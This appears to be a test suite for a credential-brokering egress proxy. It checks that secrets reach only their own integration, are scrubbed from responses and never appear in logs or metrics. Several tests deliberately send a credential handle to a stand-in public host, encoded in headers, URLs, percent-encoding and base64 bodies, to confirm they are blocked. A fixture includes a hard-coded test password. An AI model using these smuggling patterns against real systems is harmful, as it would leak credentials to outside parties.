// The broker wired into a running Sluice (CONTRACT §11), against a TLS integration on loopback: the handle is
// replaced by the real secret only on the way to its integration, from its own run, and the secret never
// comes back; every other use of a handle is refused with its own code, audited and counted.
import { appendFileSync } from 'node:fs';
import t from 'tap';
import { isolate } from '../helpers/netns.js';
import { type Harness, codeOf, startSluice, viaProxy } from '../helpers/harness.js';
import { startUpload } from '../helpers/open-flows.js';
import { CREDENTIAL, RUN, buildBrokerWorld } from './world.js';

if (isolate(t, import.meta.url)) {
  const w = await buildBrokerWorld(t);
  const h: Harness = await startSluice(t, w.config());
  const { canary } = w;
  const bearer = { authorization: `Bearer ${canary.handle}` };
  const auth = w.auth();
  const decision = (id: string | undefined) => h.decisions().find((d) => d.id === id);
  const last = () => h.decisions().at(-1)!;

  t.test('the integration sees the real token; the client gets the handle back from an echo', async (t) => {
    const before = w.api.requests.length;
    const r = await viaProxy(h.port, { url: 'http://api.test/echo', headers: bearer, auth });
    t.equal(r.status, 200, r.body);
    t.equal(w.api.requests.length, before + 1);
    t.equal(w.api.requests.at(-1)!.headers.authorization, `Bearer ${canary.secret}`, 'the upstream sees the secret');
    t.equal(w.api.requests.at(-1)!.headers['accept-encoding'], 'identity', 'responses are asked for unencoded');
    t.notOk(r.body.includes(canary.secret), 'the echoed body holds no secret');
    t.ok(r.body.includes(canary.handle), 'the echoed body holds the handle instead');
    t.equal(r.headers['x-echo-authorization'], `Bearer ${canary.handle}`, 'the echoed header too');
    t.match(last(), {
      verdict: 'allow',
      'credential.name': CREDENTIAL,
      'credential.action': 'injected',
      'credential.handle': /^[0-9a-f]{12}$/,
    });
    t.ok(Number(last()['credential.scrubbed']) >= 2);
  });

  t.test('a write with a body (handle in the header only) is injected too', async (t) => {
    const r = await viaProxy(h.port, {
      method: 'POST',
      url: 'http://api.test/echo',
      headers: { ...bearer, 'content-type': 'application/json' },
      body: JSON.stringify({ title: 'x'.repeat(3000) }),
      auth,
    });
    t.equal(r.status, 200, r.body);
    t.equal(w.api.requests.at(-1)!.headers.authorization, `Bearer ${canary.secret}`);
    t.equal(JSON.parse(w.api.requests.at(-1)!.body).title.length, 3000, 'the body arrived whole after the peek');
  });

  t.test('responses: split across chunks, base64, a header, gzip, a long body', async (t) => {
    for (const path of ['/leak/split', '/leak/base64', '/leak/header', '/leak/gzip', '/leak/big']) {
      const r = await viaProxy(h.port, { url: `http://api.test${path}`, headers: bearer, auth });
      t.equal(r.status, 200, path);
      const all = r.body + JSON.stringify(r.headers);
      t.same(canary.leaks(all, ['handle', 'handleBody']), [], `${path}: no form of the secret`);
    }
    const split = await viaProxy(h.port, { url: 'http://api.test/leak/split', headers: bearer, auth });
    t.equal(split.body, `token=${canary.handle};`);
    const gz = await viaProxy(h.port, { url: 'http://api.test/leak/gzip', headers: bearer, auth });
    t.equal(gz.body, `gzipped ${canary.handle} end`, 'decoded, scanned and sent decoded');
    t.notOk(gz.headers['content-encoding']);
    const hd = await viaProxy(h.port, { url: 'http://api.test/leak/header', headers: bearer, auth });
    t.equal(hd.headers['x-token'], canary.handle);
  });

  t.test('a body that cannot be scanned is not delivered; a decompression bomb is cut', async (t) => {
    const r = await viaProxy(h.port, { url: 'http://api.test/leak/compress', headers: bearer, auth });
    t.equal(r.status, 502);
    t.equal(codeOf(r), 'EGR_FAIL_UPSTREAM');
    t.notOk(r.body.includes(canary.secret));
    const bomb = await viaProxy(h.port, { url: 'http://api.test/leak/bomb', headers: bearer, auth }).then(
      (reply) => ({ cut: false, length: reply.body.length, body: reply.body }),
      () => ({ cut: true, length: 0, body: '' }),
    );
    t.ok(bomb.cut || bomb.length < 64 * 1024 * 1024, 'the response was cut before the whole bomb was decoded');
    t.notOk(bomb.body.includes(canary.secret));
  });

  t.test('a request to the integration without a handle still has its response scrubbed', async (t) => {
    const r = await viaProxy(h.port, { url: 'http://api.test/leak/split', auth });
    t.equal(r.status, 200);
    t.notOk(r.body.includes(canary.secret));
    t.match(last(), { 'credential.action': 'scrubbed' });
  });

  t.test('a handle toward a public host, anywhere in the request, is an exfiltration attempt', async (t) => {
    const before = w.publicHttp.connections;
    const cases: { name: string; url: string; method?: string; headers?: Record<string, string>; body?: string }[] = [
      { name: 'header', url: 'http://public.test/', headers: bearer },
      { name: 'another header', url: 'http://public.test/', headers: { 'x-note': canary.handle } },
      { name: 'URL', url: `http://public.test/?t=${canary.handle}` },
      {
        name: 'URL, percent-encoded',
        url: `http://public.test/?t=${encodeURIComponent(canary.handle).replace(/_/g, '%5F')}`,
      },
      { name: 'body', url: 'http://api.test/echo', method: 'POST', body: `{"t":"${canary.handle}"}` },
      {
        name: 'body, base64',
        url: 'http://api.test/echo',
        method: 'POST',
        body: Buffer.from(canary.handle).toString('base64'),
      },
    ];
    for (const c of cases) {
      const r = await viaProxy(h.port, {
        url: c.url,
        method: c.method ?? 'GET',
        headers: c.headers ?? {},
        ...(c.body ? { body: c.body } : {}),
        auth,
      });
      t.equal(r.status, 403, c.name);
      t.equal(codeOf(r), 'EGR_DENY_CREDENTIAL_SCOPE', c.name);
      t.same(canary.leaks(r.body + JSON.stringify(r.headers)), [], `${c.name}: the error names no handle`);
      t.match(
        last(),
        { verdict: 'deny', code: 'EGR_DENY_CREDENTIAL_SCOPE', 'credential.action': 'exfiltration' },
        c.name,
      );
    }
    t.equal(w.publicHttp.connections, before, 'the public host was never reached');
  });

  t.test('a handle toward another integration: header, body, base64 in the body past a prefix', async (t) => {
    const before = w.other.requests.length;
    const r = await viaProxy(h.port, {
      method: 'POST',
      url: 'http://other.test/echo',
      headers: bearer,
      body: '{}',
      auth,
    });
    t.equal(codeOf(r), 'EGR_DENY_CREDENTIAL_SCOPE');
    const body = await viaProxy(h.port, {
      method: 'POST',
      url: 'http://other.test/echo',
      body: JSON.stringify({ pad: 'p'.repeat(200), note: canary.handle }),
      auth,
    });
    t.equal(codeOf(body), 'EGR_DENY_CREDENTIAL_SCOPE', 'in the body');
    t.equal(w.other.requests.length, before, 'the other integration never saw either');
  });

  t.test('replaceForeign: pass lets a client token of its own through, audited', async (t) => {
    const base = w.config() as { credentials: Record<string, Record<string, unknown>> };
    const p = await startSluice(
      t,
      w.config({ credentials: { [CREDENTIAL]: { ...base.credentials[CREDENTIAL], replaceForeign: 'pass' } } }),
    );
    const r = await viaProxy(p.port, {
      url: 'http://api.test/echo',
      headers: { authorization: 'Bearer client-own-token' },
      auth,
    });
    t.equal(r.status, 200);
    t.equal(w.api.requests.at(-1)!.headers.authorization, 'Bearer client-own-token');
    t.match(p.decisions().at(-1), {
      verdict: 'allow',
      'credential.action': 'foreign-passed',
      'credential.name': CREDENTIAL,
    });
    const own = await viaProxy(p.port, { url: 'http://api.test/echo', headers: bearer, auth });
    t.equal(w.api.requests.at(-1)!.headers.authorization, `Bearer ${canary.secret}`, 'a handle is still replaced');
    t.equal(own.status, 200);
  });

  t.test('never into cleartext: a handle to the integration on another port over http://', async (t) => {
    const r = await viaProxy(h.port, { url: 'http://api.test:8080/echo', headers: bearer, auth });
    t.equal(codeOf(r), 'EGR_DENY_CREDENTIAL_SCOPE');
  });

  t.test("another run's token, a token without a run, a configured identity", async (t) => {
    for (const [name, a] of [
      ['another run', w.auth({ run: 'run-2' })],
      ['no run claim', w.auth({ run: null })],
      ['another identity, same run', w.auth({ identity: 'bot' })],
      ['configured identity', `Basic ${Buffer.from('agent:agent-password-123').toString('base64')}`],
    ] as const) {
      const r = await viaProxy(h.port, { url: 'http://api.test/echo', headers: bearer, auth: a });
      t.equal(codeOf(r), 'EGR_DENY_CREDENTIAL_SCOPE', name);
    }
  });

  t.test('an expired handle has its own code', async (t) => {
    const expired = canary.issue({ expS: Math.floor(Date.now() / 1000) - 1 });
    const r = await viaProxy(h.port, {
      url: 'http://api.test/echo',
      headers: { authorization: `Bearer ${expired}` },
      auth,
    });
    t.equal(codeOf(r), 'EGR_DENY_CREDENTIAL_EXPIRED');
    t.match(last(), { 'credential.action': 'denied', 'credential.name': CREDENTIAL });
  });

  t.test('a client token of its own in the header: replaceForeign deny', async (t) => {
    const r = await viaProxy(h.port, {
      url: 'http://api.test/echo',
      headers: { authorization: 'Bearer not-a-handle' },
      auth,
    });
    t.equal(codeOf(r), 'EGR_DENY_CREDENTIAL_FOREIGN');
  });

  t.test('a revoked run (the list written by someone else) loses its handles within the poll interval', async (t) => {
    const handle = canary.issue({ run: 'run-3' });
    const a3 = w.auth({ run: 'run-3' });
    const ok = await viaProxy(h.port, {
      url: 'http://api.test/echo',
      headers: { authorization: `Bearer ${handle}` },
      auth: a3,
    });
    t.equal(ok.status, 200);
    appendFileSync(
      w.files.revocations,
      `${JSON.stringify({ run: 'run-3', until: Math.floor(Date.now() / 1000) + 3600 })}\n`,
    );
    let code: string | undefined;
    const until = Date.now() + 5000;
    while (Date.now() < until) {
      const r = await viaProxy(h.port, {
        url: 'http://api.test/echo',
        headers: { authorization: `Bearer ${handle}` },
        auth: a3,
      });
      code = codeOf(r);
      if (code) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    t.equal(code, 'EGR_DENY_CREDENTIAL_REVOKED');
    const still = await viaProxy(h.port, { url: 'http://api.test/echo', headers: bearer, auth });
    t.equal(still.status, 200, 'other runs are untouched');
  });

  t.test(
    'an upload cut mid-body, after the peek, breaks nothing; one that stalls before a KiB is refused',
    async (t) => {
      const up = startUpload(h.port, 'http://api.test/echo', auth, 'x'.repeat(2000));
      // The peek has its KiB; the rest never comes: the client goes away mid-body.
      await new Promise((r) => setTimeout(r, 200));
      up.req.destroy();
      await up.done;
      const after = await viaProxy(h.port, { url: 'http://api.test/echo', headers: bearer, auth });
      t.equal(after.status, 200, 'Sluice still serves');
      t.notOk(
        h.logs.some((l) => l.msg === 'pipeline.internal_error'),
        'and nothing broke inside',
      );

      const quick = await startSluice(t, w.config({ limits: { idleTimeoutMs: 300 } }));
      const before = w.api.requests.length;
      const stalled = startUpload(quick.port, 'http://api.test/echo', auth, 'short');
      await stalled.done;
      t.equal(stalled.status(), 400, 'a body whose first KiB never comes is refused');
      t.match(quick.decisions().at(-1), { code: 'EGR_BAD_REQUEST', rule: 'credentials' });
      t.equal(w.api.requests.length, before, 'and never reached the integration');
    },
  );

  t.test(
    'never logged, never counted by run: no secret, handle, sealed blob or key in any log line or metric',
    async (t) => {
      t.same(canary.leaks(h.logText()), []);
      const metrics = await h.sluice.metrics.registry.metrics();
      t.same(canary.leaks(metrics), []);
      t.match(metrics, /sluice_credential_injections_total\{credential="api-token"\} [1-9]/);
      t.match(metrics, /sluice_credential_denials_total\{reason="scope",exfiltration="true"\} [1-9]/);
      t.match(metrics, /sluice_credential_denials_total\{reason="expired",exfiltration="false"\} 1/);
      t.match(metrics, /sluice_credential_scrubbed_total [1-9]/);
      t.notOk(decision(undefined));
      t.notMatch(metrics, RUN);
    },
  );
}
